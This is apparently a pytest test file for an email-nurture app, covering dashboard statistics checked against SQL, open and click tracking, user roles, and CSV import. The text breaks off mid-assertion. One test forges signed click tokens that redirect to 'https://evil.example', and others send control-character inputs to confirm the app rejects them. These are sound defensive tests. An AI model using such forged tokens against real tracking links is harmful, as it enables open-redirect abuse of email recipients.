"""The dashboard's numbers, tracking, roles, CSV import/export and /metrics.

Everything runs on a real database and a real SMTP server; history is written
by the product's own functions at explicit times, then the numbers on the
dashboard are checked against counts taken straight from the tables with SQL.
"""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import hmac
import io
import json
import re
import shutil
import subprocess
import sys
import time as clock
from datetime import UTC, datetime, time, timedelta

import pytest
from conftest import BOTH_DATABASES, csrf_token, free_port
from itsdangerous import URLSafeSerializer
from sqlalchemy import func, select, text

from nurture import ROOT, stats, tasks, tokens
from nurture.app import create_app
from nurture.db import session_scope
from nurture.delivery import send_batch
from nurture.importer import import_subscribers
from nurture.models import (
    Consent,
    Enrollment,
    Event,
    Subscriber,
    User,
    utcnow,
)
from nurture.publishing import record_published
from nurture.scheduler import dispatch
from nurture.sequences import current_sequences, first_steps
from nurture.subscribers import SignupRequest, confirm, signup
from nurture.subscribers import unsubscribe as unsubscribe_at
from nurture.users import add_user

SEQUENCE = "product-vs-project"
PASSWORD = "a long enough password"
WEBHOOK_SECRET = "webhook-secret"
TODAY = utcnow().date()
T0 = datetime.combine(TODAY - timedelta(days=2), time(10, 0), tzinfo=UTC)
OLD = T0 - timedelta(days=40)
COLUMNS = [
    "scheduled",
    "sent",
    "failed",
    "opens",
    "clicks",
    "unsubscribes",
    "bounces",
    "conversions",
]


# --- helpers -----------------------------------------------------------------------


def sequences(settings):
    return current_sequences(settings.templates_path)


def sign_up(settings, email: str, now: datetime) -> int:
    request = SignupRequest(
        email=email, first_name="Alex", timezone="UTC", sequence=SEQUENCE, source="api"
    )
    with session_scope(settings.database_url) as session:
        signup(session, settings, request, first_steps=first_steps(sequences(settings)), now=now)
        return session.scalar(select(Subscriber.id).where(Subscriber.email == email))


def confirm_at(settings, subscriber_id: int, now: datetime) -> None:
    with session_scope(settings.database_url) as session:
        assert confirm(
            session, subscriber_id, now=now, first_steps=first_steps(sequences(settings))
        )


def tick(settings, now: datetime) -> list[int]:
    ids: list[int] = []
    with session_scope(settings.database_url) as session:
        dispatch(session, settings, sequences(settings), now=now, publish=ids.extend)
    return ids


def send(settings, ids: list[int], now: datetime):
    with session_scope(settings.database_url) as session:
        return send_batch(session, settings, sequences(settings), ids, clock=lambda: now)


def deliver(settings, now: datetime):
    return send(settings, tick(settings, now), now)


def html_of(message) -> str:
    return message.get_body(preferencelist=("html",)).get_content()


def message_to(smtp, email: str, step: str):
    found = [
        m for m in smtp.messages if email in m["To"] and m["X-Nurture-Step"] == f"{SEQUENCE}/{step}"
    ]
    assert len(found) == 1, [m["X-Nurture-Step"] for m in smtp.messages]
    return found[0]


def local_path(url: str) -> str:
    return url.removeprefix("http://nurture.test")


def login(client, email: str, password: str = PASSWORD):
    data = {"csrf_token": csrf_token(client, "/admin/login"), "email": email, "password": password}
    return client.post("/admin/login", data=data)


def signed_in(app, settings, role: str, email: str | None = None):
    email = email or f"{role}@example.com"
    with session_scope(settings.database_url) as session:
        add_user(session, email, PASSWORD, role)
    client = app.test_client()
    assert login(client, email).status_code == 303
    return client


def page(response) -> str:
    return response.get_data(as_text=True)


def sql_step_counts(settings, start: datetime, end: datetime) -> dict[str, dict[str, int]]:
    """The dashboard's numbers, counted directly from the tables with SQL."""
    fmt = "%Y-%m-%d %H:%M:%S"
    params = {"seq": SEQUENCE, "a": start.strftime(fmt), "b": end.strftime(fmt)}
    queries = {
        "scheduled": "SELECT step, COUNT(*) FROM deliveries WHERE sequence = :seq"
        " AND created_at >= :a AND created_at < :b GROUP BY step",
        "sent": "SELECT step, COUNT(*) FROM deliveries WHERE sequence = :seq"
        " AND sent_at >= :a AND sent_at < :b GROUP BY step",
        "failed": "SELECT step, COUNT(*) FROM deliveries WHERE sequence = :seq"
        " AND status = 'failed' AND COALESCE(failed_at, created_at) >= :a"
        " AND COALESCE(failed_at, created_at) < :b GROUP BY step",
    }
    kinds = {
        "opens": "open",
        "clicks": "click",
        "unsubscribes": "unsubscribe",
        "bounces": "bounce",
        "conversions": "conversion",
    }
    for column, kind in kinds.items():
        queries[column] = (
            "SELECT d.step, COUNT(DISTINCT e.delivery_id) FROM events e"
            " JOIN deliveries d ON d.id = e.delivery_id WHERE d.sequence = :seq"
            f" AND e.kind = '{kind}' AND e.created_at >= :a AND e.created_at < :b"
            " GROUP BY d.step"
        )
    counts: dict[str, dict[str, int]] = {}
    with session_scope(settings.database_url) as session:
        for column, query in queries.items():
            for step, count in session.execute(text(query), params):
                counts.setdefault(step, dict.fromkeys(COLUMNS, 0))[column] = count
    keys = [step.key for step in sequences(settings)[SEQUENCE].steps]
    return {key: counts.get(key, dict.fromkeys(COLUMNS, 0)) for key in keys}


def sql_funnel(settings, start: datetime, end: datetime) -> dict:
    fmt = "%Y-%m-%d %H:%M:%S"
    params = {"seq": SEQUENCE, "a": start.strftime(fmt), "b": end.strftime(fmt)}
    cohort = "e.sequence = :seq AND e.created_at >= :a AND e.created_at < :b"
    with session_scope(settings.database_url) as session:
        signed_up, confirmed, converted = session.execute(
            text(
                "SELECT COUNT(*), COUNT(e.started_at), COUNT(e.converted_at)"
                f" FROM enrollments e WHERE {cohort}"
            ),
            params,
        ).one()
        reached = dict(
            session.execute(
                text(
                    "SELECT d.step, COUNT(DISTINCT d.enrollment_id) FROM deliveries d"
                    f" JOIN enrollments e ON e.id = d.enrollment_id WHERE {cohort}"
                    " AND d.status = 'sent' GROUP BY d.step"
                ),
                params,
            ).all()
        )
    keys = [step.key for step in sequences(settings)[SEQUENCE].steps]
    return {
        "signed_up": signed_up,
        "confirmed": confirmed,
        "steps": [(key, reached.get(key, 0)) for key in keys],
        "converted": converted,
    }


def dashboard_table(html: str) -> dict[str, dict[str, int]]:
    """The per-step table of the product-vs-project section of the rendered dashboard."""
    section = html.split(f'id="seq-{SEQUENCE}"', 1)[1].split("</section>", 1)[0]
    body = section.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    rows = {}
    for row in re.findall(r"<tr>(.*?)</tr>", body, re.S):
        key = re.search(r"<th scope=\"row\">(?:<a [^>]*>)?([^<]+)", row).group(1).strip()
        cells = [int(v) for v in re.findall(r"<td>(\d+)</td>", row)]
        assert len(cells) == len(COLUMNS), row
        rows[key] = dict(zip(COLUMNS, cells, strict=True))
    return rows


def dashboard_funnel(html: str) -> dict[str, int]:
    section = html.split(f'id="seq-{SEQUENCE}"', 1)[1].split("</section>", 1)[0]
    label = re.search(r'aria-label="Funnel: ([^"]+)"', section).group(1)
    return {name: int(value) for name, value in (p.rsplit(" ", 1) for p in label.split(", "))}


# --- 1. The dashboard's numbers ------------------------------------------------------


@pytest.fixture
def history(stack, smtp):
    """A few days of real history for six people; returns the stack with a webhook secret."""
    hooked = stack.with_env(WEBHOOK_SECRET=WEBHOOK_SECRET)
    settings = hooked.settings
    app = create_app(settings)
    client = app.test_client()

    # Long before the range: one person who got the welcome email.
    old = sign_up(settings, "old@example.com", OLD)
    confirm_at(settings, old, OLD)
    deliver(settings, OLD)
    deliver(settings, OLD + timedelta(minutes=1))
    with session_scope(settings.database_url) as session:
        unsubscribe_at(session, old, now=OLD + timedelta(hours=1), how="admin")

    # In the range: four confirm, one never does.
    people = {name: sign_up(settings, f"{name}@example.com", T0) for name in "abcde"}
    deliver(settings, T0)  # the confirmation emails
    for name in "abcd":
        confirm_at(settings, people[name], T0 + timedelta(minutes=5))
    welcome_ids = tick(settings, T0 + timedelta(minutes=10))
    assert len(welcome_ids) == 4
    with session_scope(settings.database_url) as session:
        d_ids = [
            i
            for i in welcome_ids
            if session.execute(
                text("SELECT subscriber_id FROM deliveries WHERE id = :i"), {"i": i}
            ).scalar()
            == people["d"]
        ]
    send(settings, [i for i in welcome_ids if i not in d_ids], T0 + timedelta(minutes=11))
    smtp.handler.refuse_with = "550 5.1.1 No such user"
    assert send(settings, d_ids, T0 + timedelta(minutes=12)).failed == 1
    smtp.handler.refuse_with = None
    # The next day, a and b get the second email (and c, who has not yet left).
    day1 = T0 + timedelta(days=1, hours=2)
    result = deliver(settings, day1)
    assert result.sent == 3

    # What readers do (at the real time, which is inside the range too).
    a_welcome = html_of(message_to(smtp, "a@example.com", "welcome"))
    pixel = local_path(re.search(r'src="(http://nurture\.test/o/[^"]+)"', a_welcome).group(1))
    for _ in range(3):  # opened three times: one unique open
        assert client.get(pixel).status_code == 200
    a_second = html_of(message_to(smtp, "a@example.com", "product-manager"))
    second_pixel = re.search(r'src="(http://nurture\.test/o/[^"]+)"', a_second).group(1)
    assert client.get(local_path(second_pixel)).status_code == 200
    b_welcome = html_of(message_to(smtp, "b@example.com", "welcome"))
    b_pixel = re.search(r'src="(http://nurture\.test/o/[^"]+)"', b_welcome).group(1)
    assert client.get(local_path(b_pixel)).status_code == 200
    # The course's links are in its last emails; a link in the welcome is made as the
    # composer makes it, for a's welcome delivery.
    a_delivery = tokens.read_open_token(settings.secret_key, pixel.removeprefix("/o/"))
    link = tokens.make_click_token(settings.secret_key, a_delivery, "https://example.com/read")
    for _ in range(2):  # two clicks, one unique
        clicked = client.get(f"/r/{link}")
        assert clicked.status_code == 302
        assert clicked.headers["Location"] == "https://example.com/read"

    c_welcome = message_to(smtp, "c@example.com", "welcome")
    unsubscribe = local_path(c_welcome["List-Unsubscribe"].strip("<>").split(">")[0])
    one_click = client.post(
        unsubscribe,
        data="List-Unsubscribe=One-Click",
        content_type="application/x-www-form-urlencoded",
    )
    assert one_click.status_code == 200

    body = json.dumps({"email": "b@example.com"}).encode()
    signature = "sha256=" + hmac.new(WEBHOOK_SECRET.encode(), body, hashlib.sha256).hexdigest()
    converted = client.post(
        "/api/v1/conversions",
        data=body,
        content_type="application/json",
        headers={"X-Nurture-Signature": signature},
    )
    assert converted.status_code == 200, page(converted)
    return hooked, app


def test_dashboard_numbers_equal_sql_counts(history):
    stack, app = history
    settings = stack.settings
    start = datetime.combine(T0.date(), time(0), tzinfo=UTC)
    end = datetime.combine(TODAY + timedelta(days=2), time(0), tzinfo=UTC)
    expected = sql_step_counts(settings, start, end)

    # What the history should amount to, by hand, so the SQL itself is checked too.
    assert expected["welcome"] == {
        "scheduled": 4,
        "sent": 3,
        "failed": 1,
        "opens": 2,  # a (three times) and b
        "clicks": 1,  # a, twice
        "unsubscribes": 0,  # c left after the second email: it counts there
        "bounces": 1,
        "conversions": 0,
    }
    assert expected["product-manager"] == {
        "scheduled": 3,
        "sent": 3,
        "failed": 0,
        "opens": 1,
        "clicks": 0,
        "unsubscribes": 1,
        "bounces": 0,
        "conversions": 1,  # b, answering the last email they got
    }
    assert all(
        not any(row.values())
        for key, row in expected.items()
        if key not in ("welcome", "product-manager")
    )

    with session_scope(settings.database_url) as session:
        computed = stats.step_stats(session, sequences(settings)[SEQUENCE], start, end)
        funnel = stats.funnel(session, sequences(settings)[SEQUENCE], start, end)
    assert {row.key: {c: getattr(row, c) for c in COLUMNS} for row in computed} == expected
    expected_funnel = sql_funnel(settings, start, end)
    assert {
        "signed_up": funnel.signed_up,
        "confirmed": funnel.confirmed,
        "steps": funnel.steps,
        "converted": funnel.converted,
    } == expected_funnel

    client = signed_in(app, settings, "viewer")
    response = client.get(f"/admin/?start={start.date()}&end={(end - timedelta(days=1)).date()}")
    assert response.status_code == 200
    html = page(response)
    assert dashboard_table(html) == expected
    shown = dashboard_funnel(html)
    assert shown["Signed up"] == expected_funnel["signed_up"]
    assert shown["Confirmed"] == expected_funnel["confirmed"]
    assert shown["Converted"] == expected_funnel["converted"]
    for key, value in expected_funnel["steps"]:
        assert shown[key] == value

    # The funnel, by hand: a-e signed up in the range (not old), a-d confirmed, three
    # got the welcome, b converted.
    assert expected_funnel["signed_up"] == 5
    assert expected_funnel["confirmed"] == 4
    assert expected_funnel["converted"] == 1
    assert dict(expected_funnel["steps"])["welcome"] == 3

    # The old person's welcome is outside the range, but inside a wider one.
    wide = sql_step_counts(settings, OLD - timedelta(days=1), end)
    assert wide["welcome"]["sent"] == expected["welcome"]["sent"] + 1
    html = page(client.get(f"/admin/?start={(OLD - timedelta(days=1)).date()}&end={TODAY}"))
    assert dashboard_table(html)["welcome"]["sent"] == wide["welcome"]["sent"]


def test_a_renamed_step_and_a_removed_sequence_keep_their_history(history, tmp_path):
    """Edits are safe: what went out under a step's old key, or from a folder since
    removed, still counts, on a row of its own after the live steps."""
    stack, app = history
    settings = stack.settings
    start = datetime.combine(T0.date(), time(0), tzinfo=UTC)
    end = datetime.combine(TODAY + timedelta(days=2), time(0), tzinfo=UTC)
    expected = sql_step_counts(settings, start, end)
    live = sequences(settings)[SEQUENCE]
    renamed = dataclasses.replace(
        live,
        steps=tuple(
            dataclasses.replace(step, key="pm-role") if step.key == "product-manager" else step
            for step in live.steps
        ),
    )
    with session_scope(settings.database_url) as session:
        rows = stats.step_stats(session, renamed, start, end)
        funnel = stats.funnel(session, renamed, start, end)
    by_key = {row.key: row for row in rows}
    assert [row.key for row in rows if row.retired] == ["product-manager"] == [rows[-1].key]
    assert {c: getattr(by_key["product-manager"], c) for c in COLUMNS} == (
        expected["product-manager"]
    )
    assert not by_key["pm-role"].retired and by_key["pm-role"].sent == 0
    assert funnel.retired == {"product-manager"}
    assert dict(funnel.steps)["product-manager"] == 3  # a, b and c, who signed up in the range

    # The whole folder gone: the dashboard shows the sequence's history, as the due-scan
    # last ran it, without links; a removed sequence with nothing in the range, not at all.
    with session_scope(settings.database_url) as session:
        record_published(session, current_sequences(ROOT / "templates" / "emails"), T0)
        quiet = dataclasses.replace(live, name="retired-quietly", path=tmp_path)
        record_published(session, {quiet.name: quiet}, T0)
    copy = tmp_path / "emails"
    shutil.copytree(ROOT / "templates" / "emails", copy)
    shutil.rmtree(copy / SEQUENCE)
    without = create_app(stack.with_env(NURTURE_TEMPLATES=str(copy)).settings)
    client = signed_in(without, settings, "viewer")
    html = page(client.get(f"/admin/?start={start.date()}&end={(end - timedelta(days=1)).date()}"))
    assert "no longer in <code>templates/emails/</code>" in html
    shown = dashboard_table(html)
    for key in ("welcome", "product-manager"):
        assert shown[key] == expected[key]
    assert f"/admin/preview/{SEQUENCE}/" not in html
    assert 'id="seq-retired-quietly"' not in html


@BOTH_DATABASES
def test_a_failure_counts_on_the_day_it_failed(stack, smtp):
    """Written late on one day, refused for good just after midnight: the next day's."""
    settings = stack.settings
    late = datetime.combine(T0.date(), time(23, 50), tzinfo=UTC)
    person = sign_up(settings, "late@example.com", late)
    deliver(settings, late)  # the confirmation email
    confirm_at(settings, person, late)
    [welcome] = tick(settings, late)
    smtp.handler.refuse_with = "550 5.1.1 No such user"
    after_midnight = late + timedelta(minutes=20)
    assert send(settings, [welcome], after_midnight).failed == 1
    seq = sequences(settings)[SEQUENCE]

    def failed_on(day) -> int:
        since = datetime.combine(day, time(0), tzinfo=UTC)
        with session_scope(settings.database_url) as session:
            rows = stats.step_stats(session, seq, since, since + timedelta(days=1))
        return {row.key: row.failed for row in rows}["welcome"]

    assert (failed_on(late.date()), failed_on(after_midnight.date())) == (0, 1)


def test_dashboard_out_of_range_is_zero_and_bad_dates_are_400(history):
    stack, app = history
    client = signed_in(app, stack.settings, "viewer")

    html = page(client.get("/admin/?start=2020-01-01&end=2020-01-31"))
    table = dashboard_table(html)
    assert table and all(not any(row.values()) for row in table.values())
    assert set(dashboard_funnel(html).values()) == {0}

    for query in (
        "start=yesterday",
        "start=2026-13-45",
        "end=2026-02-30",
        "start=2026-06-02&end=2026-06-01",
        "end=9999-12-31",  # the range would end the day after the calendar's last
        "end=0001-01-10",  # the 30 days before it would start before its first
    ):
        response = client.get(f"/admin/?{query}")
        assert response.status_code == 400, query


# --- 2. Tracking ---------------------------------------------------------------------


def events_of(settings, kind: str) -> list[Event]:
    with session_scope(settings.database_url) as session:
        return list(session.scalars(select(Event).where(Event.kind == kind)))


def welcome_for(settings, smtp, email: str):
    subscriber_id = sign_up(settings, email, T0)
    confirm_at(settings, subscriber_id, T0)
    deliver(settings, T0)
    return message_to(smtp, email, "welcome")


def test_track_opens_off_means_no_pixel_and_no_open(stack, smtp):
    settings = stack.with_env(TRACK_OPENS="0").settings
    client = create_app(settings).test_client()
    html = html_of(welcome_for(settings, smtp, "ann@example.com"))

    assert "/o/" not in html
    with session_scope(settings.database_url) as session:
        delivery_id = session.scalar(text("SELECT id FROM deliveries WHERE step = 'welcome'"))
    response = client.get(f"/o/{tokens.make_open_token(settings.secret_key, delivery_id)}")
    assert response.status_code == 200
    assert response.mimetype == "image/gif"
    assert response.data.startswith(b"GIF89a")
    assert events_of(settings, "open") == []


def test_forged_open_and_click_tokens_record_nothing(stack, smtp, client):
    settings = stack.settings
    html_of(welcome_for(settings, smtp, "ann@example.com"))
    with session_scope(settings.database_url) as session:
        delivery_id = session.scalar(text("SELECT id FROM deliveries WHERE step = 'welcome'"))

    forged = URLSafeSerializer("not-the-secret", salt="open").dumps(delivery_id)
    for token in (forged, "garbage", forged[:-2]):
        response = client.get(f"/o/{token}")
        assert response.status_code == 200
        assert response.mimetype == "image/gif"
    assert events_of(settings, "open") == []

    link = tokens.make_click_token(settings.secret_key, delivery_id, "https://example.com/read")
    real = client.get(f"/r/{link}")
    assert real.status_code == 302
    assert real.headers["Location"] == "https://example.com/read"
    payload, signature = link.rsplit(".", 1)
    evil = URLSafeSerializer("not-the-secret", salt="click").dumps(
        [delivery_id, "https://evil.example"]
    )
    same_signature = evil.rsplit(".", 1)[0] + "." + signature
    for token in (evil, same_signature, payload + ".x" + signature[2:], link[:-3]):
        response = client.get(f"/r/{token}")
        assert response.status_code == 400, token
        assert "Location" not in response.headers
    assert len(events_of(settings, "click")) == 1


# --- 3. Roles ------------------------------------------------------------------------


def test_viewer_reads_but_cannot_act(stack, app):
    settings = stack.settings
    subscriber_id = sign_up(settings, "ann@example.com", T0)
    viewer = signed_in(app, settings, "viewer")

    readable = (
        "/admin/",
        "/admin/subscribers",
        f"/admin/subscribers/{subscriber_id}",
        f"/admin/sequences/{SEQUENCE}",
        f"/admin/preview/{SEQUENCE}/welcome",  # the course as written, for a sample reader
    )
    for path in readable:
        assert viewer.get(path).status_code == 200, path
    assert "/admin/outbox" not in viewer.get("/admin/").get_data(as_text=True)
    token = csrf_token(viewer, "/admin/subscribers")
    forbidden_posts = [
        f"/admin/preview/{SEQUENCE}/welcome/send-test",
        f"/admin/subscribers/{subscriber_id}/pause",
        f"/admin/subscribers/{subscriber_id}/resume",
        f"/admin/subscribers/{subscriber_id}/unsubscribe",
        f"/admin/subscribers/{subscriber_id}/resend-confirmation",
        f"/admin/subscribers/{subscriber_id}/erase",
        "/admin/subscribers/import",
        "/admin/users",
    ]
    for path in forbidden_posts:
        response = viewer.post(path, data={"csrf_token": token, "confirm": "erase"})
        assert response.status_code == 403, path
    # The dev outbox holds working confirmation and unsubscribe links of real signups.
    forbidden_pages = ("/admin/outbox", "/admin/outbox/any.eml")
    for path in (*forbidden_pages, "/admin/subscribers/export.csv", "/admin/subscribers/import"):
        assert viewer.get(path).status_code == 403, path
    assert viewer.get("/admin/users").status_code == 403
    with session_scope(settings.database_url) as session:
        assert session.get(Subscriber, subscriber_id).status == "pending"


def test_editor_pauses_and_resumes(stack, app):
    settings = stack.settings
    subscriber_id = sign_up(settings, "ann@example.com", T0)
    confirm_at(settings, subscriber_id, T0)
    editor = signed_in(app, settings, "editor")
    token = csrf_token(editor, f"/admin/subscribers/{subscriber_id}")

    def enrollment():
        with session_scope(settings.database_url) as session:
            return session.scalar(
                select(Enrollment).where(Enrollment.subscriber_id == subscriber_id)
            )

    def buttons() -> set[str]:
        shown = page(editor.get(f"/admin/subscribers/{subscriber_id}"))
        return set(re.findall(r"/admin/subscribers/\d+/(pause|resume)\b", shown))

    def act(action: str) -> None:
        url = f"/admin/subscribers/{subscriber_id}/{action}"
        assert editor.post(url, data={"csrf_token": token}).status_code == 303

    before = enrollment().next_due_at
    assert buttons() == {"pause"}
    act("resume")  # not paused: nothing to resume, and the next email stays where it is
    assert enrollment().next_due_at == before

    person = f"/admin/subscribers/{subscriber_id}"
    assert "<b>product-vs-project</b>: active," in page(editor.get(person))
    act("pause")
    assert enrollment().next_due_at > before + timedelta(days=13)
    assert buttons() == {"resume"}
    assert "course paused until" in page(editor.get(person))
    assert "<b>product-vs-project</b>: active (paused)" in page(editor.get(person))
    act("resume")
    assert enrollment().next_due_at < utcnow() + timedelta(days=1)
    assert buttons() == {"pause"}
    with session_scope(settings.database_url) as session:  # as a click on the course link does
        session.get(Enrollment, enrollment().id).converted_at = T0 + timedelta(days=5)
    assert "clicked through to the course" in page(editor.get(person))
    assert editor.get("/admin/users").status_code == 403


@BOTH_DATABASES
def test_search_terms_with_control_characters_are_400(stack, app, caplog):
    viewer = signed_in(app, stack.settings, "viewer")

    for query in ("q=%00", "q=ann%0a", "status=%00", "sequence=%00"):
        response = viewer.get(f"/admin/subscribers?{query}")
        assert response.status_code == 400, query
        assert "control characters" in page(response)
    assert viewer.get("/admin/subscribers?q=ann&status=pending").status_code == 200
    assert not [r for r in caplog.records if r.levelname == "ERROR"]


@BOTH_DATABASES
def test_subscriber_ids_beyond_the_column_are_404(stack, app, caplog):
    settings = stack.settings
    sign_up(settings, "ann@example.com", T0)
    editor = signed_in(app, settings, "editor")
    token = csrf_token(editor, "/admin/subscribers")

    for number in (2**31, 2**63, 10**20):
        assert editor.get(f"/admin/subscribers/{number}").status_code == 404, number
        paused = editor.post(f"/admin/subscribers/{number}/pause", data={"csrf_token": token})
        assert paused.status_code == 404, number
    assert editor.get(f"/admin/subscribers/{2**31 - 1}").status_code == 404  # the last id: none
    assert not [r for r in caplog.records if r.levelname == "ERROR"]


def test_admin_adds_users_and_short_password_is_422(stack, app):
    settings = stack.settings
    admin = signed_in(app, settings, "admin")
    token = csrf_token(admin, "/admin/users")

    added = admin.post(
        "/admin/users",
        data={
            "csrf_token": token,
            "email": "Vic@Example.com",
            "password": PASSWORD,
            "role": "viewer",
        },
    )
    assert added.status_code == 200
    assert "vic@example.com" in page(added)
    short = admin.post(
        "/admin/users",
        data={
            "csrf_token": token,
            "email": "sam@example.com",
            "password": "short",
            "role": "editor",
        },
    )
    assert short.status_code == 422
    assert "at least 10 characters" in page(short)
    with session_scope(settings.database_url) as session:
        roles = dict(session.execute(select(User.email, User.role)).all())
    assert roles == {"admin@example.com": "admin", "vic@example.com": "viewer"}
    assert login(app.test_client(), "vic@example.com").status_code == 303


def test_cli_users_add_role_viewer(stack, app):
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "nurture",
            "users",
            "add",
            "val@example.com",
            "--role",
            "viewer",
            "--password-stdin",
        ],
        input=PASSWORD + "\n",
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=stack.process_env(),
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    with session_scope(stack.settings.database_url) as session:
        assert session.scalar(select(User.role).where(User.email == "val@example.com")) == "viewer"
    client = app.test_client()
    assert login(client, "val@example.com").status_code == 303
    assert client.get("/admin/").status_code == 200
    assert client.get("/admin/users").status_code == 403


# --- 4. Import and export --------------------------------------------------------------

MESSY = (
    "\ufeff Email , First_Name,TIMEZONE ,consent_source\r\n"
    "good1@example.com,Ann,Europe/Berlin,webinar\r\n"
    "not-an-email,Bob,UTC,\r\n"
    "\r\n"
    "GOOD1@example.com,Ann again,UTC,\r\n"
    "bounced@example.com,Bea,UTC,\r\n"
    "good2@example.com,Cy,Mars/Olympus,\r\n"
    "member@example.com,Meg,UTC,\r\n"
    "good3@example.com,,,\r\n"
    "\r\n"
)


def seed_for_import(settings, smtp):
    """A bounced address and one already on the list."""
    sign_up(settings, "member@example.com", T0)
    bounced = sign_up(settings, "bounced@example.com", T0)
    with session_scope(settings.database_url) as session:
        session.execute(
            text("UPDATE subscribers SET status = 'bounced' WHERE id = :i"), {"i": bounced}
        )


def imported_emails(settings) -> set[str]:
    with session_scope(settings.database_url) as session:
        return set(
            session.scalars(
                select(Subscriber.email).join(Consent).where(Consent.source == "import")
            )
        )


def check_messy_report(lines: list[str]) -> None:
    assert lines[0] == "imported 2, skipped 5", lines
    by_line = {
        int(m.group(1)): m.group(2) for m in (re.match(r"line (\d+): (.*)", x) for x in lines[1:])
    }
    assert set(by_line) == {3, 4, 5, 6, 7}, by_line
    assert by_line[3].startswith("not-an-email: email")
    assert "duplicate" in by_line[4]
    assert "suppressed (bounced)" in by_line[5]
    assert by_line[6].startswith("good2@example.com: timezone")
    assert "already on the list" in by_line[7]


def run_cli(stack, *args: str):
    return subprocess.run(
        [sys.executable, "-m", "nurture", "subscribers", *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=stack.process_env(),
        timeout=120,
    )


def test_messy_csv_via_cli(stack, smtp, tmp_path):
    settings = stack.settings
    seed_for_import(settings, smtp)
    path = tmp_path / "messy.csv"
    path.write_bytes(MESSY.encode("utf-8"))

    result = run_cli(stack, "import", str(path))

    assert result.returncode == 0, result.stderr
    check_messy_report(result.stdout.splitlines())
    assert imported_emails(settings) == {"good1@example.com", "good3@example.com"}
    with session_scope(settings.database_url) as session:
        good1 = session.scalar(select(Subscriber).where(Subscriber.email == "good1@example.com"))
        assert (good1.status, good1.timezone, good1.first_name) == (
            "pending",
            "Europe/Berlin",
            "Ann",
        )
        good3 = session.scalar(select(Subscriber).where(Subscriber.email == "good3@example.com"))
        assert good3.timezone == settings.default_timezone


def test_messy_csv_via_admin_upload(stack, smtp, app):
    settings = stack.settings
    seed_for_import(settings, smtp)
    admin = signed_in(app, settings, "admin")
    response = admin.post(
        "/admin/subscribers/import",
        data={
            "csrf_token": csrf_token(admin, "/admin/subscribers/import"),
            "file": (io.BytesIO(MESSY.encode()), "messy.csv"),
            "sequence": SEQUENCE,
        },
        content_type="multipart/form-data",
    )
    html = page(response)
    assert response.status_code == 200, html
    assert "Imported 2, skipped 5." in html, html
    for line, what in (
        (3, "not-an-email"),
        (4, "duplicate"),
        (5, "suppressed"),
        (6, "timezone"),
        (7, "already on the list"),
    ):
        assert re.search(rf"\b{line}\b", html) and what in html, (line, what)
    assert imported_emails(settings) == {"good1@example.com", "good3@example.com"}
    # The course is chosen from those there are, and the one used stays chosen.
    options = re.findall(r'<option value="([^"]+)"( selected)?>', html)
    assert [name for name, _ in options] == ["career-switch-checklist", SEQUENCE]
    assert dict(options)[SEQUENCE] == " selected"


BAD_FILES = {
    "wrong-columns": (b"name,mail\nAnn,ann@example.com\n", "email"),
    "utf-16": ("email\nann@example.com\n".encode("utf-16"), "UTF-8"),
    "latin-1": ("email,first_name\nann@example.com,Jos\xe9\n".encode("latin-1"), "UTF-8"),
}


@pytest.mark.parametrize("kind", sorted(BAD_FILES))
def test_bad_files_import_nothing(stack, app, tmp_path, kind):
    data, says = BAD_FILES[kind]
    path = tmp_path / "bad.csv"
    path.write_bytes(data)
    result = run_cli(stack, "import", str(path))
    assert result.returncode != 0
    assert says in result.stderr and "nothing was imported" in result.stderr, result.stderr

    admin = signed_in(app, stack.settings, "admin")
    response = admin.post(
        "/admin/subscribers/import",
        data={
            "csrf_token": csrf_token(admin, "/admin/subscribers/import"),
            "file": (io.BytesIO(data), "bad.csv"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    assert says in page(response) and "nothing was imported" in page(response)
    with session_scope(stack.settings.database_url) as session:
        assert session.scalar(select(func.count()).select_from(Subscriber)) == 0


@BOTH_DATABASES
def test_control_characters_in_a_consent_source_skip_the_row(stack, app, caplog):
    settings = stack.settings
    admin = signed_in(app, settings, "admin")
    data = (
        b"email,consent_source\n"
        b"ann@example.com,webinar\n"
        b"bob@example.com,web\x00inar\n"
        b'cy@example.com,"two\nlines"\n'
        b"dee@example.com,fair\n"
    )

    response = admin.post(
        "/admin/subscribers/import",
        data={
            "csrf_token": csrf_token(admin, "/admin/subscribers/import"),
            "file": (io.BytesIO(data), "list.csv"),
            "sequence": SEQUENCE,
        },
        content_type="multipart/form-data",
    )

    html = page(response)
    assert response.status_code == 200, html
    assert "Imported 2, skipped 2." in html, html
    assert html.count("consent_source: ") == 2
    assert imported_emails(settings) == {"ann@example.com", "dee@example.com"}
    assert not [r for r in caplog.records if r.levelname == "ERROR"]


@BOTH_DATABASES
def test_a_consent_note_with_control_characters_imports_nothing(stack, app):
    admin = signed_in(app, stack.settings, "admin")

    response = admin.post(
        "/admin/subscribers/import",
        data={
            "csrf_token": csrf_token(admin, "/admin/subscribers/import"),
            "file": (io.BytesIO(b"email\nann@example.com\n"), "list.csv"),
            "confirmed": "yes",
            "consent_note": "signed up at the fair\x00",
        },
        content_type="multipart/form-data",
    )

    assert response.status_code == 422
    assert "control characters" in page(response) and "nothing was imported" in page(response)
    assert imported_emails(stack.settings) == set()


def test_confirmed_needs_a_note_and_stores_it(stack, tmp_path):
    settings = stack.settings
    path = tmp_path / "list.csv"
    path.write_text("email,first_name\nann@example.com,Ann\nbob@example.com,Bob\n")

    refused = run_cli(stack, "import", str(path), "--confirmed")
    assert refused.returncode != 0
    assert "consent note" in refused.stderr and "nothing was imported" in refused.stderr
    with session_scope(settings.database_url) as session:
        assert session.scalar(select(func.count()).select_from(Subscriber)) == 0

    done = run_cli(stack, "import", str(path), "--confirmed", "--consent-note", "webinar list")
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[0] == "imported 2, skipped 0"
    with session_scope(settings.database_url) as session:
        people = session.scalars(select(Subscriber).order_by(Subscriber.email)).all()
        assert [(p.email, p.status) for p in people] == [
            ("ann@example.com", "active"),
            ("bob@example.com", "active"),
        ]
        for person in people:
            enrollment = session.scalar(
                select(Enrollment).where(Enrollment.subscriber_id == person.id)
            )
            assert (enrollment.sequence, enrollment.status) == (SEQUENCE, "active")
            consent = session.scalar(select(Consent).where(Consent.subscriber_id == person.id))
            # The operator's word, never a form's text the person did not see.
            assert consent.consent_text == (
